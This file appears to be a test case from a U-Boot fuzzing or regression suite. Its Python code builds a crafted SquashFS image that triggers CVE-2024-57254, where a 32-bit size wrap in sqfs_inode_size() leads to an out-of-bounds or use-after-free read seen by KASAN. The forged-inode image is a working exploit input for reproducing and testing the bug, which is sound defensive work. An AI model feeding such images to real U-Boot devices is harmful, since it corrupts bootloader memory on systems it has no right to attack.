# SPDX-License-Identifier: MIT
"""CVE-2024-57254: sqfs_inode_size() adds the size of a symbolic link to that of its inode, in 32 bits.

The sum wraps to 8, so U-Boot looks for the next inode inside this one, where the image chooses the bytes.
That is a wrong place but not a bad access. KASAN reports the consequence: the forged inode there, an extended
directory, claims an index that is longer than the table.
"""

import struct

from . import squashfs

FUNCTION = "sqfs_inode_size"
# The owner of the memory after the table depends on earlier commands.
TYPES = ("slab-out-of-bounds", "slab-use-after-free")
COMMANDS = ("sqfsls virtio 0 /dir",)


def image():
    # The forged inode starts 8 bytes into the link's own: its type is the low half of the link's time, its
    # number is the link's size. Then come links, size, block, parent, 65,535 index entries of 8 KiB, and so
    # on.
    forged = struct.pack("<IIIIHHI", 2, 0, 0, 0, 0xFFFF, 0, 0) + struct.pack("<III", 0, 0, 8191)
    link = squashfs.Symlink("link", forged, size=0x100000000 - 24 + 8, time=8)
    target = squashfs.Dir("dir", [squashfs.File("file")])
    root = squashfs.Dir("", [link, target])
    return squashfs.Writer(root, last=[target]).image()
